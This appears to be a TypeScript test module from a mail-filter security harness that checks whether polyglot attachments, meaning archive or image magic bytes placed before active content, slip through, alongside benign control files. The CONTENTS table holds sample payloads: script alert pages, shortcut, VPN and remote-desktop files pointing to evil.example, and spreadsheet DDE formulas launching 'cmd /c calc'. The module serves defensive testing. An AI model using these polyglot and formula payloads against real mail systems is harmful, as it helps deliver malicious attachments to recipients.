/** The first letters of one format before the text of another: one half takes it for an archive, the other for a harmless text. */
import { gunzipSync, gzipSync } from 'node:zlib';
import { simpleParser } from 'mailparser';
import { packed } from '../../formats/archives/archives.ts';
import { emailWith } from '../../pipeline/rig.ts';
import { activeAsPage, formulaIn } from './active-content.ts';
import { type AttackClass, type Delivered, type MailCase, mailAttack } from './attack-class.ts';

/** Bytes as latin1, by what they are the start of. */
export const MAGICS: Readonly<Record<string, string>> = {
  none: '',
  zip: 'PK\x03\x04',
  'zip end': `PK\x05\x06${'\0'.repeat(18)}`,
  'zip split': 'PK\x07\x08',
  'zip letters': 'PK',
  rar: 'Rar!',
  'rar 4': 'Rar!\x1a\x07\0',
  'rar 5': 'Rar!\x1a\x07\x01\0',
  '7z': '7z\xbc\xaf',
  '7z whole': '7z\xbc\xaf\x27\x1c\0\x04',
  gzip: '\x1f\x8b',
  'gzip deflate': '\x1f\x8b\x08\0\0\0\0\0\0\x03',
  'gzip name': '\x1f\x8b\x08\x08\0\0\0\0\0\x03',
  bzip2: 'BZh',
  'bzip2 block': 'BZh91AY&SY',
  xz: '\xfd7zXZ\0',
  zstd: '(\xb5/\xfd',
  'zstd skippable': '\x50\x2a\x4d\x18',
  cab: 'MSCF',
  'cab reserved': 'MSCF\0\0\0\0',
  ace: '1234567**ACE**',
  arj: '`\xea',
  lzh: 'ab-lh5-',
  tar: `${' '.repeat(257)}ustar`,
  chm: 'ITSF',
  gif: 'GIF89a',
  png: '\x89PNG\r\n\x1a\n',
  jpeg: '\xff\xd8\xff\xe0',
  bmp: 'BM',
  webp: 'RIFF1234WEBP',
  tiff: 'II*\0',
  mp3: 'ID3',
  pdf: '%PDF-1.4\n',
  rtf: '{\\rtf1 ',
  compound: '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1',
  tnef: '\x78\x9f\x3e\x22',
  program: 'MZ',
  postscript: '%!PS',
  metafile: 'VCLMTF',
  'utf-8 mark': '\xef\xbb\xbf',
};

/** Texts that a program acts on when it is given the file. */
export const CONTENTS: Readonly<Record<string, string>> = {
  page: '<html><body><script>alert(1)</script>Hello</body></html>',
  'page below': '\r\n<!doctype html>\r\n<p onclick="alert(1)">Hello</p>',
  frame: '\r\n<iframe src="javascript:alert(1)"></iframe>',
  drawing: '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
  shortcut: '\r\n[InternetShortcut]\r\nURL=file://evil.example/x\r\n',
  citrix: '\r\n[WFClient]\r\nVersion=2\r\n[app]\r\nInitialProgram=cmd.exe\r\n',
  vpn: '\r\nclient\r\nscript-security 2\r\nup "cmd /c calc"\r\nremote evil.example 1194\r\n',
  'remote desktop': '\r\nfull address:s:evil.example\r\ndrivestoredirect:s:*\r\n',
  'form data': '\r\n1 0 obj\r\n<< /FDF << /F (\\\\\\\\evil.example\\\\x) /JavaScript << >> >> >>\r\nendobj\r\n',
  'web query': '\r\nWEB\r\n1\r\nhttps://evil.example/q\r\n',
  sylk: '\r\nID;PWXL;N;E\r\nC;Y1;X1;K0;E=cmd|"/c calc"!A1\r\nE\r\n',
  table: '\r\nname,value\r\n=cmd|"/c calc"!A1,2\r\n',
  'launch file': '\r\n<jnlp><application-desc main-class="x"/></jnlp>\r\n',
};

/** Names of programs that do as a text says: none of these may leave under its own name. */
const ACTING_NAMES =
  'ica ovpn rdp fdf xfdf url website scf library-ms search-ms settingcontent-ms appref-ms application jnlp iqy oqy slk dqy wsf sct theme contact pif lnk webloc mobileconfig vnc desktop reg inf hta js vbs ps1 bat cmd'.split(
    ' ',
  );
const DOCUMENT_NAMES =
  'doc xls ppt docx xlsx rtf pdf html htm xhtml svg xml csv txt log md zip rar 7z gz cab ace arj zst iso bin dat xyz eml mht msg png gif jpg ics vcf'.split(
    ' ',
  );
const CALC_NAMES = /^(?:csv|tsv|xls|xlt|slk|doc)$/;
export const NAMES: readonly string[] = [...ACTING_NAMES, ...DOCUMENT_NAMES];
export const DECLARED: readonly string[] =
  'application/octet-stream text/plain application/zip image/gif application/msword text/html text/csv application/x-compressed application/pdf'.split(
    ' ',
  );

interface Opinion extends MailCase {
  readonly bytes: Uint8Array;
}

/** Every magic before every content; names and declared types go round, each with its own stride, so that all meet. */
function* cases(): Iterable<Opinion> {
  let count = 0;
  for (const [magic, letters] of Object.entries(MAGICS))
    for (const [content, text] of Object.entries(CONTENTS)) {
      const name = NAMES[(count * 29) % NAMES.length] ?? 'doc';
      const type = DECLARED[(count * 4) % DECLARED.length] ?? '';
      const bytes = Buffer.from(letters + text, 'latin1');
      const id = `${magic}, ${content}, .${name}, ${type}`;
      yield { id, bytes, email: emailWith({ files: [{ name: `report.${name}`, type, bytes }] }) };
      count += 1;
    }
}

async function judge(_: Opinion, { message }: Delivered): Promise<string | null> {
  const { attachments } = await simpleParser(Buffer.from(message));
  for (const { filename = '', content } of attachments) {
    const extension = /\.([a-z0-9-]+)$/i.exec(filename)?.[1]?.toLowerCase() ?? '';
    if (ACTING_NAMES.includes(extension)) return `delivered as ${filename}`;
    // Every program that is given a file which begins so, by name or without, shows the text in it.
    const isRichText = extension === 'rtf' && content.toString('latin1').startsWith('{\\rtf1');
    const active = isRichText ? null : activeAsPage(content);
    if (active !== null) return `${filename} is a page with ${active}`;
    const formula = CALC_NAMES.test(extension) && !isRichText ? formulaIn(content) : null;
    if (formula !== null) return `${filename} calculates ${formula}`;
  }
  return null;
}

/** Texts that begin with the letters of a format because people write so. */
const TEXTS: Readonly<Record<string, string>> = {
  'company.txt': 'PK company minutes\r\nAll were present.\r\n',
  'cars.txt': 'BMW and others: the list of cars.\r\n',
  'chapter.txt': 'II. Kapitel\r\nEs war einmal.\r\n',
  'rar.txt': 'Rar! That is how one calls a goose.\r\n',
  'format.md': 'GIF89a is the second version of a format.\r\n',
  'tags.log': 'ID3 tags written: 14\r\nID3 tags skipped: 2\r\n',
  'riff.txt': 'RIFF, he played a RIFF.\r\n',
  'mscf.log': 'MSCF service started\r\n12:00:01 ready\r\n',
  'bzh.txt': 'BZh is short for Breizh.\r\n',
  'seven.txt': '7z is an archive program.\r\n',
  'plain.txt': 'Dear all,\r\nplease see below.\r\n',
  'one-byte.txt': 'x',
  'empty.txt': '',
  'table.csv': 'name,amount\r\nPK,1\r\nBM,2\r\n',
  'pk.csv': 'PK,Rar!,BZh\r\n1,2,3\r\n',
  'notes.log': '2026-11-20 12:00:01 INFO started\r\n2026-11-20 12:00:02 INFO done\r\n',
};

async function ordinary(): Promise<Opinion[]> {
  const files = { 'minutes.txt': 'All were present.\r\n', 'table.csv': 'a,b\r\n1,2\r\n' };
  const one = { 'minutes.txt': 'All were present.\r\n' };
  const archives: [string, Uint8Array][] = [
    ['small.zip', await packed('zip', files)],
    ['stored.zip', await packed('zip', one, { switches: ['-mx=0'] })],
    ['small.7z', await packed('7z', files)],
    ['small.tar', await packed('tar', files)],
    ['small.tar.gz', gzipSync(await packed('tar', files))],
    ['minutes.txt.gz', await packed('gzip', one)],
    ['minutes.txt.bz2', await packed('bzip2', one)],
    ['minutes.txt.xz', await packed('xz', one)],
  ];
  const texts = Object.entries(TEXTS).map(([name, text]): [string, Uint8Array] => [name, Buffer.from(text)]);
  return [...texts, ...archives].map(([name, bytes]) => ({
    id: `ordinary ${name}`,
    bytes,
    email: emailWith({ files: [{ name, bytes }] }),
  }));
}

/** A text comes out byte for byte; an archive may come out as a zip, but comes out; a gzip of one file stays one with the same file. */
async function judgeOrdinary({ id, bytes }: Opinion, { message }: Delivered): Promise<string | null> {
  const { attachments } = await simpleParser(Buffer.from(message));
  const [file] = attachments;
  if (file === undefined || /removed/i.test(file.filename ?? ''))
    return `the file is gone: ${file?.content.toString()}`;
  const isText = /\.(?:txt|md|log|csv)$/.test(id);
  if (isText) return Buffer.compare(file.content, bytes) === 0 ? null : `the text was changed: ${file.filename}`;
  if (id.endsWith('.txt.gz'))
    return gunzipSync(file.content).equals(gunzipSync(bytes)) ? null : `another file is in ${file.filename}`;
  return file.content.subarray(0, 2).toString() === 'PK' ? null : `no archive: ${file.filename}`;
}

export const twoOpinions: AttackClass = {
  name: 'two-opinions',
  title: 'the first letters of an archive before a page or settings, so that nobody reads them as what they are',
  async *attempts(airlock) {
    const usual = await ordinary();
    yield* mailAttack({
      name: this.name,
      title: this.title,
      cases,
      judge,
      judgeOrdinary,
      ordinary: () => usual,
    }).attempts(airlock);
  },
};
